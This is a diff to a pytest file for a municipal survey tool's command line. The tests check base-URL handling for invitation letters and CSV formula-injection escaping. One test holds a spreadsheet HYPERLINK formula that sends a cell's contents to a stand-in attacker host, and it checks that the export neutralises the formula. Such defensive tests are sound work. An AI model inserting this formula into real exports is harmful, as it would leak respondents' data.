@@ -48,7 +48,7 @@ def test_campaign_create_with_codes_writes_them_to_a_csv_file(runner, tree, tmp_
     out = tmp_path / "koder.csv"
     letters = tmp_path / "brev.pdf"
     result = create(runner, "--unit", "4601-helse-sykehjem", "--codes", "3", "--codes-file", str(out),
-                    "--letters", str(letters))
+                    "--letters", str(letters), "--base-url", "https://svar.kommune.no")
     assert result.exit_code == 0, result.output
     rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
     assert len(rows) == 6
@@ -83,10 +83,10 @@ def test_campaign_codes_adds_codes_for_one_unit(runner, tmp_path, tree):
     open_round = factories.make_open_round(tree)
     out = tmp_path / "flere.csv"
     result = runner.invoke(args=["campaign", "codes", str(open_round.campaign.id), "--unit", "4601-helse-hjemme",
-                                 "--count", "5", "--out", str(out)])
+                                 "--count", "5", "--out", str(out), "--base-url", "https://svar.kommune.no"])
     assert result.exit_code == 0, result.output
     rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
-    assert len(rows) == 5 and rows[0]["address"] == "http://127.0.0.1:5000/svar"
+    assert len(rows) == 5 and rows[0]["address"] == "https://svar.kommune.no/svar"
     assert db.session.scalar(select(func.count()).select_from(Invitation)) == 3 + 5
     client = runner.app.test_client()
     assert helpers.enter_code(client, rows[0]["code"]).status_code == 303
@@ -178,3 +178,72 @@ def test_purge_drafts_removes_open_link_drafts_of_closed_rounds(runner, tree):
     db.session.commit()
     result = runner.invoke(args=["campaign", "purge-drafts"])
     assert "1 open-link drafts removed" in result.output
+
+
+def issue_codes(runner, open_round, out, *extra):
+    return runner.invoke(args=["campaign", "codes", str(open_round.campaign.id), "--unit", "4601-helse-hjemme",
+                               "--count", "2", "--out", str(out), *extra])
+
+
+def test_campaign_codes_without_a_public_address_refuses_and_issues_nothing(runner, tmp_path, tree):
+    open_round = factories.make_open_round(tree)
+    out, letters = tmp_path / "koder.csv", tmp_path / "brev.pdf"
+    result = issue_codes(runner, open_round, out, "--letters", str(letters))
+    assert result.exit_code == 1
+    assert "http://127.0.0.1:5000/svar" in result.output and "--base-url" in result.output
+    assert "PUBLIC_BASE_URL is not set" in result.output
+    assert not out.exists() and not letters.exists()
+    assert db.session.scalar(select(func.count()).select_from(Invitation)) == 3
+
+
+def test_campaign_codes_refuses_a_public_base_url_on_this_computer(runner, tmp_path, tree):
+    open_round = factories.make_open_round(tree)
+    runner.app.config["PUBLIC_BASE_URL"] = "http://localhost:8000"
+    result = issue_codes(runner, open_round, tmp_path / "koder.csv")
+    assert result.exit_code == 1
+    assert "PUBLIC_BASE_URL is http://localhost:8000" in result.output
+    assert db.session.scalar(select(func.count()).select_from(Invitation)) == 3
+
+
+def test_campaign_codes_prints_the_public_base_url(runner, tmp_path, tree):
+    open_round = factories.make_open_round(tree)
+    runner.app.config["PUBLIC_BASE_URL"] = "https://svar.kommune.no/"
+    out = tmp_path / "koder.csv"
+    result = issue_codes(runner, open_round, out)
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
+    assert {r["address"] for r in rows} == {"https://svar.kommune.no/svar"}
+    assert "Warning" not in result.output
+
+
+def test_campaign_codes_takes_a_loopback_base_url_when_asked_for_it_with_a_warning(runner, tmp_path, tree):
+    open_round = factories.make_open_round(tree)
+    out = tmp_path / "koder.csv"
+    result = issue_codes(runner, open_round, out, "--base-url", "http://127.0.0.1:5055")
+    assert result.exit_code == 0, result.output
+    assert "Warning: the letters send respondents to http://127.0.0.1:5055/svar" in result.stderr
+    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
+    assert {r["address"] for r in rows} == {"http://127.0.0.1:5055/svar"}
+
+
+def test_campaign_create_with_codes_without_a_public_address_creates_nothing(runner, tmp_path, tree):
+    factories.make_questionnaire()
+    out = tmp_path / "koder.csv"
+    result = create(runner, "--codes", "3", "--codes-file", str(out))
+    assert result.exit_code == 1
+    assert "--base-url" in result.output
+    assert not out.exists()
+    assert db.session.scalar(select(func.count()).select_from(Campaign)) == 0
+    assert db.session.scalar(select(func.count()).select_from(Invitation)) == 0
+
+
+def test_the_mail_merge_file_from_the_command_line_shows_a_formula_unit_name_as_text(runner, tmp_path, tree):
+    open_round = factories.make_open_round(tree)
+    name = '=HYPERLINK("https://evil.example/?"&A2;"Klikk her")'
+    open_round.unit.name = name
+    db.session.commit()
+    out = tmp_path / "koder.csv"
+    result = issue_codes(runner, open_round, out, "--base-url", "https://svar.kommune.no")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
+    assert [r["unit_name"] for r in rows] == ["'" + name] * 2
